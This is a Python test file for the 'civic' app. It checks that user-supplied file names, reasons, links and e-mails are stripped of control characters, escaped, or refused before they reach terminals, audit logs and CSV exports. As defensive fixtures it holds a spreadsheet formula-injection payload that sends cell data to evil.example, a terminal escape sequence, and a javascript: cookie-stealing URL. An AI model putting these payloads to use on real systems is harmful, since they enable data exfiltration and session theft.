"""Text whoever sent it chose (a file name, a reason, a link, an e-mail) reaches the terminal,
the audit trail and spreadsheets as text: control characters dropped, formulas escaped in
every CSV the same way, a link that is not http(s) refused with exit 2; and the audit says who
wrote (`cli:<user>` for the shell user) and why (each upload its own file name)."""

from __future__ import annotations

import csv
import getpass
import io
import re
import tomllib
from pathlib import Path

import pytest
from conftest import DATA, prepared
from conftest import run_civic as run
from test_data_entry_app import signed_in_app
from test_intake import GOOD, GOOD2, HEADER, csv_bytes

from civic import accounts, database, history, reads, store
from civic.text import FORMULA_START

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"点击")'
ESCAPE = "\x1b[2J\x1b]0;owned\x07"


@pytest.fixture
def url(tmp_path, capsys) -> str:
    found = f"sqlite:///{tmp_path / 'c.sqlite3'}"
    with prepared(found):
        pass
    capsys.readouterr()
    return found


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_writer_escapes_formulas_through_one_helper(repo_dir: Path) -> None:
    """Every `.to_csv(` of the code writes a frame made safe by `civic.text.csv_safe`, every
    `csv.writer` row goes through `csv_cell`, and tables' own CSV export (which escapes
    nothing) is off."""
    for path in [*(repo_dir / "civic").glob("*.py"), *(repo_dir / "app_pages").glob("*.py"),
                 repo_dir / "dashboard.py"]:
        for line in path.read_text("utf-8").splitlines():
            if ".to_csv(" in line:
                assert "csv_safe(" in line, f"{path.name}: {line.strip()}"
            if "writerow(" in line:
                assert "csv_cell" in line, f"{path.name}: {line.strip()}"
    config = tomllib.loads((repo_dir / ".streamlit" / "config.toml").read_text("utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_civic_history_csv_escapes_formulas_and_drops_control_characters(url, capsys) -> None:
    engine = database.connect(url)
    try:
        accounts.add(engine, "wang", "a long enough secret", "admin", email="w@example.org",
                     who="cli:test")
        with pytest.raises(accounts.Unknown):  # an e-mail of the sender's choosing
            accounts.single_sign_on(engine, f"{FORMULA}@evil.example")
        dataset = reads.dataset(engine)
        source = dataset.sources[0].model_copy(update={"title": "改" + ESCAPE})
        store.write(engine, [("sources", source, store.Origin("t", None, "s"))],
                    who="cli:test", why=FORMULA + ESCAPE)
    finally:
        engine.dispose()
    code, out, _ = run(capsys, "history", "--format", "csv", "--database", url)
    assert code == 0 and "HYPERLINK" in out
    assert not [c for c in cells(out) if c.startswith(FORMULA_START)]
    assert "\x1b" not in out and "\x07" not in out
    code, out, _ = run(capsys, "history", "--database", url)
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    # The history page's download is written the same way.
    engine = database.connect(url)
    try:
        written = history.csv_bytes(engine).decode("utf-8-sig")
    finally:
        engine.dispose()
    assert "HYPERLINK" in written and "\x1b" not in written
    assert not [c for c in cells(written) if c.startswith(FORMULA_START)]


def test_a_javascript_source_url_is_refused_with_exit_2_naming_the_link(url, tmp_path,
                                                                         capsys) -> None:
    upload = tmp_path / "up.csv"
    upload.write_bytes(csv_bytes(HEADER, GOOD))
    code, out, err = run(capsys, "import", str(upload), "--source-title", "测试",
                         "--source-date", "2024-02-01", "--source-url",
                         "javascript:alert(document.cookie)", "--database", url)
    assert code == 2 and not out
    assert "link" in err.lower() and "Traceback" not in err and "pydantic" not in err


def test_civic_import_without_as_is_recorded_as_the_shell_user(url, tmp_path, capsys) -> None:
    upload = tmp_path / "up.csv"
    upload.write_bytes(csv_bytes(HEADER, GOOD))
    code, _, err = run(capsys, "import", str(upload), "--source", "zzrb_20231115_walk",
                       "--database", url)
    assert code == 0, err
    trail = reads.history(database.connect(url))
    assert trail.iloc[-1]["who"] == f"cli:{getpass.getuser()}"


def test_control_characters_in_a_file_name_reach_neither_the_audit_nor_the_terminal(
        url, tmp_path, capsys) -> None:
    upload = tmp_path / f"report{ESCAPE}.csv"
    upload.write_bytes(csv_bytes(HEADER, GOOD))
    code, out, err = run(capsys, "import", str(upload), "--source", "zzrb_20231115_walk",
                         "--database", url)
    assert code == 0, err
    assert "\x1b" not in out + err and "\x07" not in out + err
    why = reads.history(database.connect(url)).iloc[-1]["why"]
    assert why.startswith("import report") and "\x1b" not in why and "\x07" not in why
    code, out, _ = run(capsys, "history", "--database", url)
    assert "import report[2J]0;owned.csv" in out and "\x1b" not in out


def test_each_web_upload_records_its_own_file_name_as_the_reason(new_store) -> None:
    at = signed_in_app("data_entry", lang="en")
    at.selectbox(key="source_id").set_value("zzrb_20231115_walk").run()
    for name, line in [("first.csv", GOOD), (f"second{ESCAPE}.csv", GOOD2)]:
        at.get("file_uploader")[0].set_value((name, csv_bytes(HEADER, line), "text/csv"))
        at.run()
        at.button(key="save_upload").click().run()
        assert not at.exception and at.success
    trail = reads.history(database.connect(new_store))
    reasons = list(trail.iloc[-2:]["why"])
    assert reasons == ["upload first.csv", "upload second[2J]0;owned.csv"]
    assert not [r for r in reasons if re.search(r"[\x00-\x1f]", r)]


def test_the_shipped_data_is_untouched_by_these_tests() -> None:
    assert (DATA / "sources.yaml").is_file()
